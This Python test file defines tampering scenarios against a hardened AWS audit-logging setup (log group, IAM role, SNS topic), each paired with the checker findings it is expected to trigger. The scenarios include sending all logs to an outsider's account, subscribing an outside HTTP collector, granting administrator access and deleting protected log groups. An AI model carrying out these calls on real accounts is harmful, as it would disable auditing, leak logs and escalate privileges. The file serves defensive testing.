"""Attacks on log group, role and topic: whoever is told in minutes is told no more, or told too much."""

import json
from typing import Any

from tests import hardened as good
from tests.attacks.attack import Attack, Step, call
from tests.attacks.consequences import ALARMS
from tests.attacks.world import OUTSIDER

GROUP, ROLE, TOPIC = good.GROUP_ARN, good.ROLE_ARN, good.TOPIC_ARN
GROUP_NAME, ROLE_NAME = {"logGroupName": "audit"}, {"RoleName": "audit-to-logs"}
UNPROTECTED = call(
    "logs.put_log_group_deletion_protection", logGroupIdentifier="audit", deletionProtectionEnabled=False
)


def attribute(name: str, value: str) -> tuple[Step, ...]:
    return (call("sns.set_topic_attributes", TopicArn=TOPIC, AttributeName=name, AttributeValue=value),)


def role_may(*statements: dict[str, Any]) -> tuple[Step, ...]:
    document = good.document(*statements)
    return (call("iam.put_role_policy", **ROLE_NAME, PolicyName="write", PolicyDocument=document),)


def trusting(principal: Any, **condition: Any) -> tuple[Step, ...]:
    document = good.document(good.statement(Principal=principal, Action="sts:AssumeRole", **condition))
    return (call("iam.update_assume_role_policy", **ROLE_NAME, PolicyDocument=document),)


def publishing(principal: Any) -> tuple[Step, ...]:
    return attribute(
        "Policy", good.document(good.statement(Principal=principal, Action="SNS:Publish", Resource=TOPIC))
    )


def heard_by(service: str, name: str) -> tuple[Step, ...]:
    """Send all events to somebody else's destination."""
    return (
        call(
            "logs.put_subscription_filter",
            **GROUP_NAME,
            filterName="all",
            filterPattern="",
            destinationArn=f"arn:aws:{service}:{good.HOME}:{OUTSIDER}:{name}",
        ),
    )


def remade(**settings: str) -> tuple[Step, ...]:
    """Put an empty log group in the place of the one with the filters."""
    return (
        UNPROTECTED,
        call("logs.delete_log_group", **GROUP_NAME),
        call("logs.create_log_group", **GROUP_NAME, **settings),
    )


NO_ALARMS = "TH616 TH617 TH622"
WRITES = good.statement(Action=["logs:CreateLogStream", "logs:PutLogEvents"], Resource=f"{GROUP}:*")
EVERYBODY_READS = good.document(good.statement(Principal="*", Action="logs:*", Resource=f"{GROUP}:*"))
ATTACKS = (
    Attack(
        "log group: delete",
        "log group audit",
        (UNPROTECTED, call("logs.delete_log_group", **GROUP_NAME)),
        fails=f"TH503 {ALARMS}",
        gone=(good.GROUP_ARN,),
    ),
    Attack("log group: no protection", GROUP, (UNPROTECTED,), fails="TH516"),
    Attack(
        "log group: one day",
        GROUP,
        (call("logs.put_retention_policy", **GROUP_NAME, retentionInDays=1),),
        fails="TH502",
    ),
    Attack(
        "log group: for ever", GROUP, (call("logs.delete_retention_policy", **GROUP_NAME),), fails="TH505"
    ),
    Attack("log group: made anew", GROUP, remade(), fails=f"TH501 TH505 TH516 {ALARMS}", moot=NO_ALARMS),
    Attack(
        "log group: made anew without alarms",
        GROUP,
        remade(logGroupClass="INFREQUENT_ACCESS"),
        fails=f"TH501 TH505 TH515 TH516 {ALARMS}",
        moot=NO_ALARMS,
    ),
    Attack(
        "log group: a stranger's function listens", GROUP, heard_by("lambda", "function:all"), fails="TH508"
    ),
    Attack("log group: a stranger's stream listens", GROUP, heard_by("kinesis", "stream/all"), fails="TH508"),
    Attack(
        "log group: its own policy opens it",
        GROUP,
        (call("logs.put_resource_policy", resourceArn=GROUP, policyDocument=EVERYBODY_READS),),
        fails="TH506",
    ),
    Attack("log group: no key", GROUP, (call("logs.disassociate_kms_key", **GROUP_NAME),), fails="TH501"),
    Attack(
        "log group: a stranger listens",
        GROUP,
        heard_by("logs", "destination:all"),
        fails="TH508",
    ),
    Attack(
        "log group: open to everybody",
        GROUP,
        (call("logs.put_resource_policy", policyName="open", policyDocument=EVERYBODY_READS),),
        fails="TH506",
    ),
    Attack(
        "log group: all groups are sent on",
        GROUP,
        (
            call(
                "logs.put_account_policy",
                policyName="all",
                policyType="SUBSCRIPTION_FILTER_POLICY",
                policyDocument=json.dumps(
                    {
                        "DestinationArn": f"arn:aws:logs:{good.HOME}:{OUTSIDER}:destination:all",
                        "FilterPattern": "",
                    }
                ),
                scope="ALL",
            ),
        ),
        fails="TH508",
    ),
    Attack("role: delete", ROLE, (call("iam.delete_role", **ROLE_NAME),), fails="TH517", moot="TH509"),
    Attack(
        "role: no policy",
        ROLE,
        (call("iam.delete_role_policy", **ROLE_NAME, PolicyName="write"),),
        fails="TH517",
    ),
    Attack("role: refused", ROLE, role_may(WRITES, {**WRITES, "Effect": "Deny"}), fails="TH517"),
    Attack(
        "role: another log group",
        ROLE,
        role_may({**WRITES, "Resource": WRITES["Resource"].replace(":audit:", ":other:")}),
        fails="TH517",
    ),
    Attack(
        "role: administrator",
        ROLE,
        (
            call(
                "iam.attach_role_policy",
                **ROLE_NAME,
                PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess",
            ),
        ),
        fails="TH517 TH804",
    ),
    Attack(
        "role: trust for another trail",
        ROLE,
        trusting(good.CLOUDTRAIL, Condition={"StringEquals": {"aws:SourceArn": f"{good.TRAIL_ARN}-old"}}),
        fails="TH517",
    ),
    Attack(
        "role: may do everything",
        ROLE,
        role_may(good.statement(Action="*", Resource="*")),
        fails="TH801 TH802 TH803 TH804 TH517",
    ),
    Attack(
        "role: no trust in CloudTrail", ROLE, trusting({"Service": "ec2.amazonaws.com"}), fails="TH509 TH517"
    ),
    Attack(
        "role: trust in a stranger",
        ROLE,
        trusting({"AWS": f"arn:aws:iam::{OUTSIDER}:root"}),
        fails="TH509 TH517",
    ),
    Attack("role: any trail", ROLE, trusting(good.CLOUDTRAIL), fails="TH509"),
    Attack(
        "topic: delete",
        TOPIC,
        (call("sns.delete_topic", TopicArn=TOPIC),),
        fails="TH504",
        moot="TH518",
        gone=(good.TOPIC_ARN,),
    ),
    Attack(
        "topic: no policy for CloudTrail", TOPIC, publishing({"Service": "s3.amazonaws.com"}), fails="TH518"
    ),
    Attack("topic: any trail", TOPIC, publishing(good.CLOUDTRAIL), fails="TH518"),
    Attack("topic: everybody publishes", TOPIC, publishing("*"), fails="TH511 TH512 TH518"),
    Attack(
        "topic: a stranger publishes",
        TOPIC,
        publishing({"AWS": f"arn:aws:iam::{OUTSIDER}:root"}),
        fails="TH512 TH518",
    ),
    Attack("topic: no key", TOPIC, attribute("KmsMasterKeyId", ""), fails="TH510"),
    Attack("topic: no feedback", TOPIC, attribute("SQSFailureFeedbackRoleArn", ""), fails="TH514"),
    Attack(
        "topic: a stranger listens",
        TOPIC,
        (call("sns.subscribe", TopicArn=TOPIC, Protocol="http", Endpoint="http://collector.example.com/"),),
        fails="TH513",
    ),
)
